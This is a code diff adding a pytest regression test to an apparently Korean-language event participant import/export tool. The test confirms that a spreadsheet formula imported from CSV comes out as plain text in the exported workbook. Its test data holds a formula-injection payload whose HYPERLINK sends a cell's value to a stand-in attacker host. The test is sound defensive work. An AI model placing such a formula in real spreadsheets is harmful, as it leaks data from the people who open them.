@@ -1,4 +1,5 @@
 import csv
+import io
 
 import pytest
 from openpyxl import Workbook
@@ -225,3 +226,21 @@ def test_a_fair_sized_workbook_imports_whole(engine, event, tmp_path):
     stored = people(engine)
     assert len({p.invite_token for p in stored.values()}) == 4000
     assert stored["S02999"].products == "김치"
+
+
+def test_an_imported_formula_is_text_in_the_export(engine, event, tmp_path):
+    from openpyxl import load_workbook
+
+    from store.export import workbook as export_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")'
+    path = tmp_path / "people.csv"
+    with path.open("w", encoding="utf-8-sig", newline="") as handle:
+        csv.writer(handle).writerows([HEADER, ["B001", "buyer", formula, "US", "food"]])
+    with session_scope(engine) as session:
+        import_participants(session, path)
+    with session_scope(engine) as session:
+        book = load_workbook(io.BytesIO(export_workbook(session, "ko")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert formula in {c.value for c in cells}
